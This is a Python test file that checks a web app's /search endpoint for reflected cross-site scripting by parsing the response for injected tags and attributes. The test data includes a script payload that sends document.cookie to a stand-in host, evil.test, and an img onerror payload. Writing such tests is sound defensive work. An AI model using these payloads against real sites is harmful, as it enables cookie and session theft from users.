import importlib
import os
from html.parser import HTMLParser

mod = importlib.import_module(os.environ.get("CASE_MODULE", "app"))


class TagCollector(HTMLParser):
    def __init__(self):
        super().__init__()
        self.tags = []
        self.attrs = []

    def handle_starttag(self, tag, attrs):
        self.tags.append(tag)
        self.attrs.extend(name for name, _ in attrs)


def _parse(body):
    parser = TagCollector()
    parser.feed(body)
    return parser


def test_script_in_query_is_not_rendered_as_markup():
    payload = "<script>document.location='https://evil.test/?c='+document.cookie</script>"
    body = mod.app.test_client().get("/search", query_string={"q": payload}).get_data(as_text=True)
    assert "script" not in _parse(body).tags


def test_event_handler_attribute_not_injected():
    payload = '<img src=x onerror="alert(1)">'
    body = mod.app.test_client().get("/search", query_string={"q": payload}).get_data(as_text=True)
    parsed = _parse(body)
    assert "img" not in parsed.tags
    assert "onerror" not in parsed.attrs
